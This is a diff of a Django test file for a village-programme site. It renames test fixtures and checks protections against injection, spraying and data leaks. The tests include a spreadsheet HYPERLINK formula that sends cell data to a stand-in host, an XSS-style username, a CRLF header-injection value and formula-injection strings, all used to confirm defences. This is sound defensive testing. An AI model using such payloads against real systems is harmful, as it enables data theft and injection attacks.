@@ -13,6 +13,7 @@ from django.utils import timezone
 
 from faq.models import FaqQuestionPage, Feedback
 from search.models import QueryLog
+from tests import world
 from tests.factories import PASSWORD, TrainingSessionFactory
 from tests.village_programs.conftest import make_officer
 from village_programs import history
@@ -20,14 +21,14 @@ from village_programs.models import OutreachRequest, TrainingSession, Village
 
 pytestmark = pytest.mark.django_db
 
-CITEKO = "32.14.04.2006"
+SUKAMAJU = "98.01.01.2001"
 LONG_AGO = timezone.now() - datetime.timedelta(days=800)
 
 
 def staff(group="Village programme staff", username="staff"):
     user = User.objects.create_user(username, password=PASSWORD)
     user.groups.add(Group.objects.get(name=group))
-    client = Client()
+    client = Client(HTTP_HOST=world.HOST)
     client.force_login(user)
     return user, client
 
@@ -43,7 +44,7 @@ def exported_rows(client, path):
 
 def test_an_officers_formula_reaches_the_export_as_text():
     formula = '=HYPERLINK("https://calo.example/?d="&A1,"Klik")'
-    TrainingSessionFactory(village=Village.objects.get(code=CITEKO), place=formula, facilitators="@SUM(1+1)")
+    TrainingSessionFactory(village=Village.objects.get(code=SUKAMAJU), place=formula, facilitators="@SUM(1+1)")
     _user, client = staff()
     rows = exported_rows(client, "/admin/village-programme/sessions/")
     cells = [cell for row in rows for cell in row]
@@ -57,9 +58,9 @@ def test_an_officers_formula_reaches_the_export_as_text():
 
 @pytest.fixture
 def old_session(db):
-    officer = make_officer("citeko-officer", CITEKO)
+    officer = make_officer("sukamaju-officer", SUKAMAJU)
     session = TrainingSessionFactory(
-        village=Village.objects.get(code=CITEKO), facilitators="Bu Sulastri", notes="Peserta: Pak Darman"
+        village=Village.objects.get(code=SUKAMAJU), facilitators="Bu Sulastri", notes="Peserta: Pak Darman"
     )
     history.record(session, officer.user, "created")
     history.record(session, officer.user, "edited", {"facilitators": ["Bu Sulastri", "Bu Sulastri, Pak Darman"]})
@@ -80,7 +81,7 @@ def test_the_purge_removes_names_from_the_sessions_history_too(old_session):
 def test_the_officers_session_page_still_opens_after_the_purge(old_session):
     officer, session = old_session
     call_command("purge_personal_data", stdout=io.StringIO())
-    client = Client()
+    client = Client(HTTP_HOST=world.HOST)
     client.force_login(officer.user)
     response = client.get(f"/id/desa/sesi/{session.pk}/")
     assert response.status_code == 200
@@ -88,11 +89,11 @@ def test_the_officers_session_page_still_opens_after_the_purge(old_session):
 
 
 def test_outreach_contacts_are_purged_once_a_request_is_long_finished(old_session):
-    village = Village.objects.get(code=CITEKO)
+    village = Village.objects.get(code=SUKAMAJU)
     common = {
         "village": village,
-        "place_name": "Balai Desa Citeko",
-        "place_address": "Jl. Raya Citeko",
+        "place_name": "Balai Desa Sukamaju",
+        "place_address": "Jl. Raya Sukamaju",
         "preferred_dates": ["2024-01-10"],
         "expected_applicants": 30,
         "services": ["new"],
@@ -133,7 +134,7 @@ def test_a_nik_typed_into_feedback_is_never_stored(client):
     client.post(
         f"/id/tanya-jawab/tanggapan/{question.pk}/",
         {"helpful": "no", "comment": "NIK saya 3201.2345.6789.0123, wa 0812 3456 7890"},
-        HTTP_ORIGIN="http://testserver",
+        HTTP_ORIGIN=f"http://{world.HOST}",
     )
     (comment,) = Feedback.objects.values_list("comment", flat=True)
     assert comment == "NIK saya #, wa #"
@@ -189,10 +190,10 @@ def test_photos_are_not_served_before_the_forced_password_change():
 
     from village_programs.models import SessionPhoto
 
-    officer = make_officer("newcomer", CITEKO, must_change_password=True)
-    session = TrainingSessionFactory(village=Village.objects.get(code=CITEKO))
+    officer = make_officer("newcomer", SUKAMAJU, must_change_password=True)
+    session = TrainingSessionFactory(village=Village.objects.get(code=SUKAMAJU))
     photo = SessionPhoto.objects.create(session=session, kind="attendance", image=SimpleUploadedFile("a.jpg", b"x"))
-    client = Client()
+    client = Client(HTTP_HOST=world.HOST)
     client.force_login(officer.user)
     response = client.get(f"/id/desa/sesi/{session.pk}/foto/{photo.pk}/")
     assert response.status_code == 302 and response["Location"] == "/id/desa/kata-sandi/"
@@ -230,18 +231,18 @@ def test_village_staff_cannot_unlock_a_superuser():
     from axes.models import AccessAttempt
 
     User.objects.create_superuser("kepala", password=PASSWORD)
-    make_officer("citeko-officer", CITEKO)
-    for username in ("kepala", "citeko-officer"):
+    make_officer("sukamaju-officer", SUKAMAJU)
+    for username in ("kepala", "sukamaju-officer"):
         AccessAttempt.objects.create(
             username=username, ip_address="36.66.1.10", user_agent="x", failures_since_start=10
         )
     _user, client = staff()
     listing = client.get("/admin/village-programme/locked-accounts/").content.decode()
-    assert "citeko-officer" in listing and "kepala" not in listing
+    assert "sukamaju-officer" in listing and "kepala" not in listing
     client.post("/admin/village-programme/locked-accounts/", {"username": "kepala"})
     assert AccessAttempt.objects.filter(username="kepala").exists()  # still locked
-    client.post("/admin/village-programme/locked-accounts/", {"username": "citeko-officer"})
-    assert not AccessAttempt.objects.filter(username="citeko-officer").exists()
+    client.post("/admin/village-programme/locked-accounts/", {"username": "sukamaju-officer"})
+    assert not AccessAttempt.objects.filter(username="sukamaju-officer").exists()
 
 
 # 13. Validation gaps -------------------------------------------------------------------
@@ -249,13 +250,13 @@ def test_village_staff_cannot_unlock_a_superuser():
 
 def officer_form(**overrides):
     data = {
-        "username": "citeko-kaur",
+        "username": "sukamaju-kaur",
         "full_name": "Siti Rahma",
         "email": "",
         "position": "Kaur Umum",
         "phone": "0812-3456-7890",
-        "villages": [str(Village.objects.get(code=CITEKO).pk)],
-        "temporary_password": "sementara-2026-citeko",
+        "villages": [str(Village.objects.get(code=SUKAMAJU).pk)],
+        "temporary_password": "sementara-2026-sukamaju",
     }
     data.update(overrides)
     return data
@@ -264,9 +265,9 @@ def officer_form(**overrides):
 @pytest.mark.parametrize(
     ("overrides", "field"),
     [
-        ({"username": "citeko kaur"}, "username"),
-        ({"username": 'citeko"><script>'}, "username"),
-        ({"username": "citeko'kaur"}, "username"),
+        ({"username": "sukamaju kaur"}, "username"),
+        ({"username": 'sukamaju"><script>'}, "username"),
+        ({"username": "sukamaju'kaur"}, "username"),
         ({"phone": "=1+1"}, "phone"),
         ({"phone": "@SUM(A1)"}, "phone"),
     ],
@@ -287,9 +288,9 @@ def test_an_officer_account_takes_only_sane_names_and_numbers(overrides, field):
 def test_a_session_dated_in_year_one_is_refused(client):
     from village_programs.forms import TrainingSessionForm
 
-    officer = make_officer("citeko-officer", CITEKO)
+    officer = make_officer("sukamaju-officer", SUKAMAJU)
     form = TrainingSessionForm(
-        data={"date": "0001-01-01", "village": str(Village.objects.get(code=CITEKO).pk)}, officer=officer
+        data={"date": "0001-01-01", "village": str(Village.objects.get(code=SUKAMAJU).pk)}, officer=officer
     )
     form.is_valid()
     assert "date" in form.errors
@@ -298,7 +299,7 @@ def test_a_session_dated_in_year_one_is_refused(client):
 def test_the_data_download_name_holds_nothing_the_officer_typed():
     from village_programs.my_data import download
 
-    officer = make_officer('desa"\r\nX-Evil: 1', CITEKO)
+    officer = make_officer('desa"\r\nX-Evil: 1', SUKAMAJU)
     disposition = download(officer)["Content-Disposition"]
     assert disposition.startswith('attachment; filename="my-data-') and disposition.endswith('.json"')
     assert "\n" not in disposition and "Evil" not in disposition
@@ -333,7 +334,7 @@ def test_sqlite_waits_for_the_lock_instead_of_failing(tmp_path):
 
 
 @pytest.mark.parametrize(
-    ("password", "accepted"), [("citeko-2026", False), ("qwerty123456", False), ("kopi-tubruk-di-balai-desa", True)]
+    ("password", "accepted"), [("desaku-2026", False), ("qwerty123456", False), ("kopi-tubruk-di-balai-desa", True)]
 )
 def test_passwords_need_twelve_characters_and_must_not_be_common(password, accepted):
     from django.contrib.auth.password_validation import validate_password
@@ -353,8 +354,8 @@ def test_passwords_need_twelve_characters_and_must_not_be_common(password, accep
 def test_officer_sessions_end_when_idle_or_old(idle_minutes, hours_since_login, still_in):
     import time
 
-    officer = make_officer("citeko-officer", CITEKO)
-    client = Client()
+    officer = make_officer("sukamaju-officer", SUKAMAJU)
+    client = Client(HTTP_HOST=world.HOST)
     client.force_login(officer.user)
     session = client.session
     now = int(time.time())
@@ -369,15 +370,15 @@ def test_officer_sessions_end_when_idle_or_old(idle_minutes, hours_since_login, 
 
 def test_password_spraying_from_one_address_is_stopped(settings):
     settings.LOGIN_FAILURES_PER_CLIENT = (5, 3600)
-    officer = make_officer("citeko-officer", CITEKO)
-    sprayer = Client()
+    officer = make_officer("sukamaju-officer", SUKAMAJU)
+    sprayer = Client(HTTP_HOST=world.HOST)
     for n in range(5):
         sprayer.post("/id/desa/masuk/", {"username": f"perangkat-{n}", "password": "Bismillah123"})
-    refused = sprayer.post("/id/desa/masuk/", {"username": "citeko-officer", "password": PASSWORD})
+    refused = sprayer.post("/id/desa/masuk/", {"username": "sukamaju-officer", "password": PASSWORD})
     assert refused.status_code == 429
     assert "_auth_user_id" not in sprayer.session
     assert (
-        Client(REMOTE_ADDR="36.66.1.10")
+        Client(HTTP_HOST=world.HOST, REMOTE_ADDR="36.66.1.10")
         .post("/id/desa/masuk/", {"username": officer.user.username, "password": PASSWORD})
         .status_code
         == 302
@@ -388,12 +389,14 @@ def test_password_reset_mails_are_limited(settings, mailoutbox):
     settings.PASSWORD_RESET_RATE_LIMIT = (3, 3600)
     User.objects.create_user("reviewer-ani", email="ani@example.org", password=PASSWORD, is_staff=True)
     statuses = [
-        Client(REMOTE_ADDR=f"36.66.1.{n}").post("/admin/password_reset/", {"email": "ani@example.org"}).status_code
+        Client(HTTP_HOST=world.HOST, REMOTE_ADDR=f"36.66.1.{n}")
+        .post("/admin/password_reset/", {"email": "ani@example.org"})
+        .status_code
         for n in range(5)
     ]
     assert statuses == [302, 302, 302, 429, 429]
     assert len(mailoutbox) == 3
-    flood = Client(REMOTE_ADDR="114.124.2.20")
+    flood = Client(HTTP_HOST=world.HOST, REMOTE_ADDR="114.124.2.20")
     assert [flood.post("/admin/password_reset/", {"email": f"x{n}@example.org"}).status_code for n in range(4)] == [
         302,
         302,
@@ -422,7 +425,7 @@ def test_a_superuser_must_set_up_a_second_step_and_then_give_a_code_at_each_logi
 
     settings.STAFF_TWO_FACTOR = ["superusers"]
     User.objects.create_superuser("kepala", password=PASSWORD)
-    client = Client()
+    client = Client(HTTP_HOST=world.HOST)
     admin_login(client, "kepala")
     to_setup = client.get("/admin/pages/")
     assert to_setup.status_code == 302 and to_setup["Location"].startswith("/admin/2fa/setup/")
@@ -441,7 +444,7 @@ def test_a_superuser_must_set_up_a_second_step_and_then_give_a_code_at_each_logi
     device.refresh_from_db()
     assert device.confirmed and len(key) >= 32
 
-    later = Client()
+    later = Client(HTTP_HOST=world.HOST)
     admin_login(later, "kepala")
     asked = later.get("/admin/")
     assert asked["Location"].startswith("/admin/2fa/verify/")
@@ -459,11 +462,11 @@ def test_editors_are_not_forced_but_anyone_with_a_device_is_asked(settings):
 
     settings.STAFF_TWO_FACTOR = ["superusers"]
     user, _client = staff("Editors", username="editor-budi")
-    client = Client()
+    client = Client(HTTP_HOST=world.HOST)
     admin_login(client, "editor-budi")
     assert client.get("/admin/").status_code == 200
     TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
-    again = Client()
+    again = Client(HTTP_HOST=world.HOST)
     admin_login(again, "editor-budi")
     assert again.get("/admin/")["Location"].startswith("/admin/2fa/verify/")
 
